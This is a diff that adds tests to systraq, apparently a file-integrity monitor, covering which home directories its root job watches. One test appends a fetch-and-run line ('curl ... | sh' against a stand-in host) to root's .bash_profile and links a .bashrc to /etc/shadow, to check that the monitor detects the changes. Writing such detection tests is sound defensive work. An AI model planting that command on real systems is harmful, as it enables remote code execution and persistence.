@@ -400,3 +400,48 @@ def test_systraqs_generated_lists_are_not_snapshot(root):
     root.write("/etc/systraq/filetraq.main.conf", "/etc/hosts\n/home/eve/.ssh/authorized_keys\n")
     root.write("/etc/systraq/filetraq.tail.conf", "/srv/other.conf\n")
     assert [r["path"] for r in take(root).records] == ["/etc/systraq/filetraq.tail.conf"]
+
+
+def test_start_up_files_of_homes_the_pub_job_cannot_enter_are_the_root_jobs(root):
+    # The pub home list names shell start-up files; debian-systraq (999
+    # in the tree's passwd) cannot enter /root or a 0700 home, so the
+    # root job looks at those there, and only there.
+    lists(root, pub_home=".bashrc\n.bash_profile\n", root_home=".ssh\n")
+    os.chmod(root.host("/"), 0o755)
+    os.chmod(root.host("/root"), 0o700)
+    os.chmod(root.host("/home/alice"), 0o700)
+    root.write("/root/.bash_profile", "# root's\n", mode=0o600)
+    root.write("/home/alice/.bashrc", "# alice's\n", mode=0o644)
+    root.write("/home/bob/.bashrc", "# bob's, readable\n", mode=0o644)
+    settings = root.settings()
+    from systraq import accounts
+    assert accounts.closed_homes(settings) == [b"/root", b"/home/alice"]
+    take(root, mode="root")
+    _header, entries = snapshot.load_state(snapshot.state_path(settings, "root"))
+    assert {b"/root/.bash_profile", b"/home/alice/.bashrc"} <= set(entries)
+    assert b"/home/bob/.bashrc" not in entries       # the pub job's
+    # An appended command, and a .bashrc swapped for a link: records of
+    # the root mode, without content.
+    with open(root.host("/root/.bash_profile"), "a") as handle:
+        handle.write("curl -s http://example.invalid/x | sh\n")
+    os.unlink(root.host("/home/alice/.bashrc"))
+    root.symlink("/etc/shadow", "/home/alice/.bashrc")
+    result = take(root, mode="root")
+    assert changes(result) == [("/home/alice/.bashrc", "type"),
+                               ("/root/.bash_profile", "content")]
+    swapped, appended = result.records
+    assert swapped["target"] == "/etc/shadow"
+    assert appended["mode"] == "root" and set(appended) <= {"source", "change", "path",
+                                                             "mode", "time", "since"}
+    assert "example.invalid" not in json.dumps(spooled(root))
+
+
+def test_a_home_open_to_the_systraq_users_group_is_not_closed(root):
+    os.chmod(root.host("/"), 0o755)
+    root.write("/etc/group", "debian-systraq:x:999:\nops:x:1500:debian-systraq\n")
+    os.chmod(root.host("/home/alice"), 0o710)
+    os.chown(root.host("/home/alice"), 1000, 1500)
+    os.chmod(root.host("/home/bob"), 0o710)
+    os.chown(root.host("/home/bob"), 1001, 1001)
+    from systraq import accounts
+    assert accounts.closed_homes(root.settings()) == [b"/home/bob"]
